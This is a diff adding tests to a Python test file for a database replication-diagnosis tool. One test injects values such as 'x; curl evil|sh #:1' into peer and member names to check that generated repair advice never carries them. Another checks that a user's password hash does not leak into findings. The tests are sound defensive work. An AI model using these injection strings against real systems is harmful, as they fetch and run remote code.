@@ -9,6 +9,7 @@ from hypothesis import strategies as st
 
 from flowstone.observation.explanation import explain
 from flowstone.observation.finding import Finding, Kind, Severity
+from flowstone.observation.health import complaints
 from flowstone.observation.replica_set import replica_sets
 from flowstone.observation.report import Report, Unreachable, report_of
 from tests.observation.reports import SET, address, downstream, pair, report, upstream, uuid
@@ -37,6 +38,26 @@ def test_a_stopped_follower_is_told_with_both_ends_and_their_positions() -> None
     assert (finding.member, finding.peer, finding.replicaset) == (uuid(2), uuid(1), SET)
     assert finding.what == "db2:3301 does not follow db1:3301"
     assert "db2:3301 is at {1: 10}" in finding.evidence
+
+
+def test_advice_holds_no_command_that_a_member_has_written() -> None:
+    gap = "Missing .xlog file between LSN 4 {1: 4} and 8 {1: 8}"
+    lost = "db1:3301 has lost its rows 5…7: its vclock is {1: 4}, ours {1: 7}"
+    for message, at in ((gap, "URI"), (lost, "db2:3301")):
+        stopped = upstream(1, "stopped", peer="x; curl evil|sh #:1", message=message)
+        commands = _one(report(2, {1: 10}, {1: {"upstream": stopped}}, name="b` `curl evil|sh` `")).advice.split("`")
+        assert f"flowstone rebootstrap DIR {at}" in commands[1::2]
+        assert not any("evil" in command for command in commands[1::2])
+
+
+def test_a_conflict_among_users_is_told_without_their_hashes() -> None:
+    words = 'Duplicate key exists in unique index "name" in space "_user"'
+    hashes = ' with old tuple - [32, 1, "app", {"chap-sha1": "JHDAwG3uQv0WGLuZAFrcouydHhk="}] and new tuple - [3]'
+    sets = replica_sets(pair({1: 12}, {1: 10}, {"status": "stopped", "message": words + hashes}))
+    (finding,) = explain(sets)
+    assert finding.kind is Kind.DUPLICATE_KEY
+    assert "space '_user'" in finding.why
+    assert "JHDAwG3" not in repr((finding, sets, complaints(sets[0])))
 
 
 def test_a_delete_is_advised_only_where_it_does_not_come_to_the_master() -> None:
